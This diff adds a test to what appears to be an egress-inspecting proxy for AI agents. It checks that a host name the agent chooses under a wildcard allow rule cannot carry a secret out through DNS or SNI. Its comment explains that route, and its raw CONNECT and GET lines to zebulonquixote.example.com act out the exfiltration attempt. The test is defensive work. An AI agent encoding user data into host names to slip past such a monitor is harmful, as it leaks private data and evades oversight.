@@ -142,6 +142,31 @@ import VeilScan
         #expect(reply.contains("no CA"))
     }
 
+    /// The attack: under a wildcard entry (`*.example.com`) the agent chooses the name, which
+    /// reaches the host's DNS and the upstream's SNI whatever Host header its requests carry.
+    /// A CONNECT to `zebulonquixote.example.com` is refused without naming it (the report
+    /// shows no canary either); an absolute-form request to such a name is blocked before
+    /// any connection. The control: a clean name under the wildcard is tunnelled.
+    @Test func aHostNameTheAgentChoseIsReadForCanaries() async throws {
+        let ca = try RunCA()
+        let inspector = try Self.inspector([Route(api: .unknown, upstream: .stub)], allow: ["*.example.com"], ca: ca)
+        defer { inspector.shutdown() }
+        let (c, refused) = try await Self.tunnel(inspector.port, to: "zebulonquixote.example.com:443", refused: true)
+        c.close()
+        #expect(refused.hasPrefix("HTTP/1.1 403") && refused.contains("canary (user name)"), "\(refused)")
+        #expect(!refused.contains("zebulonquixote"))
+        let (clean, accepted) = try await Self.tunnel(inspector.port, to: "clean.example.com:443")
+        clean.close()
+        #expect(accepted.hasPrefix("HTTP/1.1 200"))
+        let raw = try RawClient(port: inspector.port)
+        defer { raw.close() }
+        raw.send("GET http://zebulonquixote.example.com/v1/models HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
+        let blocked = await raw.read(until: "}}")
+        #expect(blocked.hasPrefix("HTTP/1.1 400") && blocked.contains("canary"), "\(blocked)")
+        let summary = inspector.summary()
+        #expect(!summary.refusals.contains { $0.request.contains("zebulonquixote") }, "\(summary.refusals)")
+    }
+
     /// Bytes that are not TLS are read as HTTP and inspected; bytes that are neither are
     /// refused. Nothing reaches the CONNECT target unread (the echo server would answer).
     @Test func plainBytesInATunnelAreReadAsHTTP() async throws {
